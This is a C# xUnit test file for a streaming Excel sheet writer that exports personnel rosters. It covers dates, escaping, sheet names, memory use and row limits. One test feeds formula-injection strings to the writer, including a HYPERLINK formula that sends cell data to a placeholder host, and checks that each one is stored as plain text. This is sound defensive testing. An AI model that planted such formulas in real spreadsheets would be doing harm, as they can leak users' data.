using System.IO.Compression;
using System.Xml.Linq;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using OrgWork.Kernel;
using Xunit;

namespace OrgWork.Tests.Kernel;

public class SheetWriterTests
{
    static readonly SheetColumn[] Columns = [new("姓名", 10), new("出生年月", 9), new("任职时间", 11.5), new("年龄", 6)];

    static async Task<MemoryStream> Write(Action<SheetWriter> rows, string name = "干部名册", params string[] titles)
    {
        var stream = new MemoryStream();
        await using var sheet = new SheetWriter(stream, name, "周文博");
        sheet.Begin(Columns, titles);
        rows(sheet);
        await sheet.FinishAsync();
        return stream;
    }

    static async Task<List<Cell>> CellsOf(Action<SheetWriter> rows)
    {
        using var book = SpreadsheetDocument.Open(await Write(rows), false);
        return [.. book.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().Skip(1).SelectMany(row => row.Elements<Cell>())];
    }

    static CellFormat FormatOf(SpreadsheetDocument book, Cell cell) =>
        (CellFormat)book.WorkbookPart!.WorkbookStylesPart!.Stylesheet.CellFormats!.ElementAt((int)cell.StyleIndex!.Value);

    [Theory]
    [InlineData()]
    [InlineData("示范县干部名册")]
    [InlineData("示范县干部名册", "截至 2026.11.21　共 1 人")]
    public async Task The_workbook_is_valid_by_the_schema(params string[] titles)
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => sheet.Row("虞知远", new Month(1978, 3), new DateOnly(2022, 5, 8), 47), titles: titles), false);
        var faults = new OpenXmlValidator(DocumentFormat.OpenXml.FileFormatVersions.Microsoft365).Validate(book).Select(fault => $"{fault.Part?.Uri} {fault.Path?.XPath} {fault.Description}");
        Assert.Empty(faults);
    }

    [Fact]
    public async Task Texts_numbers_dates_and_months_are_what_they_are()
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => sheet.Row("虞知远", new Month(1978, 3), new DateOnly(2022, 5, 8), 47)), false);
        var cells = book.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().Last().Elements<Cell>().ToList();
        Assert.Equal(["A2", "B2", "C2", "D2"], cells.Select(cell => cell.CellReference!.Value));
        Assert.Equal("虞知远", cells[0].InnerText);
        Assert.Equal(new DateTime(1978, 3, 1), DateTime.FromOADate(double.Parse(cells[1].CellValue!.Text)));
        Assert.Equal(new DateTime(2022, 5, 8), DateTime.FromOADate(double.Parse(cells[2].CellValue!.Text)));
        Assert.Equal("47", cells[3].CellValue!.Text);
        var formats = book.WorkbookPart.WorkbookStylesPart!.Stylesheet.NumberingFormats!.Elements<NumberingFormat>().ToDictionary(format => format.NumberFormatId!.Value, format => format.FormatCode!.Value);
        Assert.Equal(@"yyyy\.mm", formats[FormatOf(book, cells[1]).NumberFormatId!.Value]);
        Assert.Equal(@"yyyy\.mm\.dd", formats[FormatOf(book, cells[2]).NumberFormatId!.Value]);
    }

    [Fact]
    public async Task Empty_values_and_missing_cells_are_empty_cells()
    {
        var cells = await CellsOf(sheet => sheet.Row("", (Month?)null, (DateOnly?)null));
        Assert.Equal(4, cells.Count);
        Assert.All(cells, cell => Assert.Equal(("", null), (cell.InnerText, cell.DataType?.Value)));
    }

    [Fact]
    public async Task A_day_before_the_calendar_of_sheets_is_written_as_text()
    {
        var cells = await CellsOf(sheet => sheet.Row("", new Month(1893, 12), new DateOnly(1900, 2, 28), 0));
        Assert.Equal(["1893.12", "1900.02.28"], cells.Skip(1).Take(2).Select(cell => cell.InnerText));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://x.invalid/?\"&A1,\"点击\")")]
    [InlineData("+86 10")]
    [InlineData("-5")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\t缩进")]
    [InlineData("\r=1")]
    [InlineData("\0=1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠1")]
    [InlineData("　 =1")]
    public async Task A_text_that_looks_like_a_formula_stays_a_text_also_when_edited(string text)
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => sheet.Row(text)), false);
        var sheet = book.WorkbookPart!.WorksheetParts.Single().Worksheet;
        var cell = sheet.Descendants<Row>().Last().Elements<Cell>().First();
        Assert.Equal(CellValues.InlineString, cell.DataType!.Value);
        Assert.True(FormatOf(book, cell).QuotePrefix!.Value);
        Assert.Equal(49u, FormatOf(book, cell).NumberFormatId!.Value);
        Assert.Equal(text.Replace("\0", "", StringComparison.Ordinal).Replace('\r', '\n'), cell.InnerText);
        Assert.Empty(sheet.Descendants<CellFormula>());
    }

    [Fact]
    public async Task Long_digits_stay_texts_and_carry_no_quote()
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => sheet.Row("990101197803151017")), false);
        var cell = book.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().Last().Elements<Cell>().First();
        Assert.Equal((CellValues.InlineString, 49u, null), (cell.DataType!.Value, FormatOf(book, cell).NumberFormatId!.Value, FormatOf(book, cell).QuotePrefix?.Value));
    }

    [Theory]
    [InlineData("<b>&amp;\"'</b>", "<b>&amp;\"'</b>")]
    [InlineData("𠮷野", "𠮷野")]
    [InlineData("阿依古丽·艾力", "阿依古丽·艾力")]
    [InlineData("a\u0001b\u000Bc\uFFFE", "abc")]
    [InlineData("第一行\r\n第二行\n", "第一行\n第二行\n")]
    [InlineData("  前后空格  ", "  前后空格  ")]
    // A spreadsheet program reads _x005F_ as the underscore; the library here leaves it as it is.
    [InlineData("_x003D_1", "_x005F_x003D_1")]
    [InlineData("a_b", "a_b")]
    public async Task Any_text_comes_back_as_it_was_but_for_what_xml_cannot_carry(string text, string expected) =>
        Assert.Equal(expected, (await CellsOf(sheet => sheet.Row(text)))[0].InnerText);

    [Fact]
    public async Task Half_a_letter_is_shown_as_a_broken_one() =>
        Assert.Equal("断\uFFFD开", (await CellsOf(sheet => sheet.Row("断\uD800开")))[0].InnerText);

    [Fact]
    public async Task A_text_too_long_for_a_cell_is_cut_where_one_sees_it()
    {
        var read = (await CellsOf(sheet => sheet.Row(new string('长', 40_000))))[0].InnerText;
        Assert.Equal((32_767, '…'), (read.Length, read[^1]));
        var broken = (await CellsOf(sheet => sheet.Row("a" + string.Concat(Enumerable.Repeat("𠮷", 20_000)))))[0].InnerText;
        Assert.True(broken.Length <= 32_767 && broken[^1] == '…' && char.IsLowSurrogate(broken[^2]));
    }

    [Fact]
    public async Task Titles_span_the_sheet_and_headings_stay_are_filtered_and_printed_on_every_page()
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => { sheet.Row("甲"); sheet.Row("乙"); }, "干部名册", "示范县干部名册", "共 2 人"), false);
        var sheet = book.WorkbookPart!.WorksheetParts.Single().Worksheet;
        var pane = sheet.Descendants<Pane>().Single();
        Assert.Equal((3d, "A4", PaneStateValues.Frozen), (pane.VerticalSplit!.Value, pane.TopLeftCell!.Value, pane.State!.Value));
        Assert.Equal(["A1:D1", "A2:D2"], sheet.Descendants<MergeCell>().Select(cell => cell.Reference!.Value));
        Assert.Equal("A3:D5", sheet.Descendants<AutoFilter>().Single().Reference!.Value);
        Assert.Equal(["姓名", "出生年月", "任职时间", "年龄"], sheet.Descendants<Row>().ElementAt(2).Elements<Cell>().Select(cell => cell.InnerText));
        Assert.Equal([10, 9, 11.5, 6], sheet.Descendants<Column>().Select(column => column.Width!.Value));
        var print = sheet.Descendants<PageSetup>().Single();
        Assert.Equal((9u, OrientationValues.Landscape, 0u), (print.PaperSize!.Value, print.Orientation!.Value, print.FitToHeight!.Value));
        var names = book.WorkbookPart.Workbook.DefinedNames!.Elements<DefinedName>().ToDictionary(name => name.Name!.Value!, name => name.Text);
        Assert.Equal("'干部名册'!$3:$3", names["_xlnm.Print_Titles"]);
        Assert.Equal("'干部名册'!$A$3:$D$5", names["_xlnm._FilterDatabase"]);
    }

    [Theory]
    [InlineData("虞知远", null)]
    [InlineData("示范县石桥镇党委书记", 45d)]
    [InlineData("一\n二", 30d)]
    [InlineData("A long remark", 30d)]
    public async Task A_row_is_as_high_as_its_wrapped_text(string text, double? height)
    {
        using var book = SpreadsheetDocument.Open(await Write(sheet => sheet.Row(text)), false);
        Assert.Equal(height, book.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().Last().Height?.Value);
    }

    [Theory]
    [InlineData("党员/2026*[一]?", "党员2026一")]
    [InlineData("'", "表")]
    [InlineData("A&B", "A&B")]
    [InlineData("一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四", "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一")]
    public async Task The_name_of_the_sheet_is_made_fit(string name, string expected)
    {
        using var book = SpreadsheetDocument.Open(await Write(_ => { }, name), false);
        Assert.Equal(expected, book.WorkbookPart!.Workbook.Descendants<Sheet>().Single().Name!.Value);
    }

    [Fact]
    public async Task Nothing_is_sent_before_the_workbook_is_whole()
    {
        var stream = new MemoryStream();
        await using (var sheet = new SheetWriter(stream, "干部名册", "周文博"))
        {
            sheet.Begin(Columns);
            sheet.Row("虞知远");
        }
        Assert.Equal(0, stream.Length);
    }

    [Fact]
    public async Task It_needs_no_stream_that_can_seek_or_be_written_in_step()
    {
        using var whole = new MemoryStream();
        await using var sheet = new SheetWriter(new OnlyAsync(whole), "干部名册", "周文博");
        sheet.Begin(Columns);
        await sheet.FinishAsync();
        using var zip = new ZipArchive(new MemoryStream(whole.ToArray()));
        Assert.All(zip.Entries, entry => XDocument.Load(entry.Open()));
        Assert.DoesNotContain(zip.Entries, entry => entry.FullName.Contains("external", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task Columns_beyond_Z_are_lettered_as_in_sheets()
    {
        var stream = new MemoryStream();
        await using var sheet = new SheetWriter(stream, "宽表", "周文博");
        sheet.Begin([.. Enumerable.Range(0, 704).Select(i => new SheetColumn($"{i}"))]);
        await sheet.FinishAsync();
        using var book = SpreadsheetDocument.Open(stream, false);
        var cells = book.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Cell>().Select(cell => cell.CellReference!.Value).ToList();
        Assert.Equal("Z1 AA1 ZZ1 AAA1 AAB1", $"{cells[25]} {cells[26]} {cells[701]} {cells[702]} {cells[703]}");
    }

    [Fact]
    public async Task Memory_does_not_grow_with_the_rows()
    {
        // Counted are the bytes this thread asks for: 2,000,000 cells, and less than a byte for each.
        await using var sheet = new SheetWriter(Stream.Null, "大表", "周文博");
        sheet.Begin([.. Enumerable.Range(0, 20).Select(i => new SheetColumn($"第{i}列"))]);
        WriteRows(sheet, 1_000);
        var before = GC.GetAllocatedBytesForCurrentThread();
        WriteRows(sheet, 100_000);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 1_000_000);
        await sheet.FinishAsync();
        Assert.Equal(101_000, sheet.Rows);

        static void WriteRows(SheetWriter sheet, int rows)
        {
            var cells = new SheetCell[20];
            for (var row = 0; row < rows; row++)
            {
                for (var column = 0; column < cells.Length; column++)
                    cells[column] = column % 4 == 0 ? row : "示范县某局副局长";
                sheet.Row(cells);
            }
        }
    }

    [Fact]
    public async Task More_rows_than_a_sheet_holds_are_refused_in_words()
    {
        await using var sheet = new SheetWriter(Stream.Null, "大表", "周文博");
        sheet.Begin([new("一列")]);
        for (var i = 0; i < 1_048_575; i++)
            sheet.Row(1);
        var fault = Assert.Throws<InvalidOperationException>(() => sheet.Row(1));
        Assert.Equal("一张 Excel 表最多 1048576 行，请缩小条件后分次导出", fault.Message);
    }

    [Fact]
    public async Task Misuse_is_refused()
    {
        await using var sheet = new SheetWriter(Stream.Null, "表", "周文博");
        Assert.Throws<InvalidOperationException>(() => sheet.Row("太早"));
        sheet.Begin([new("一列")]);
        Assert.Throws<InvalidOperationException>(() => sheet.Begin([new("一列")]));
        Assert.Throws<ArgumentException>(() => sheet.Row("一", "二"));
    }

    // What a response is: no seeking, no synchronous writing.
    sealed class OnlyAsync(Stream inner) : Stream
    {
        public override bool CanRead => false;
        public override bool CanSeek => false;
        public override bool CanWrite => true;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }
        public override void Flush() => throw new NotSupportedException();
        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) => inner.WriteAsync(buffer, cancellationToken);
    }
}
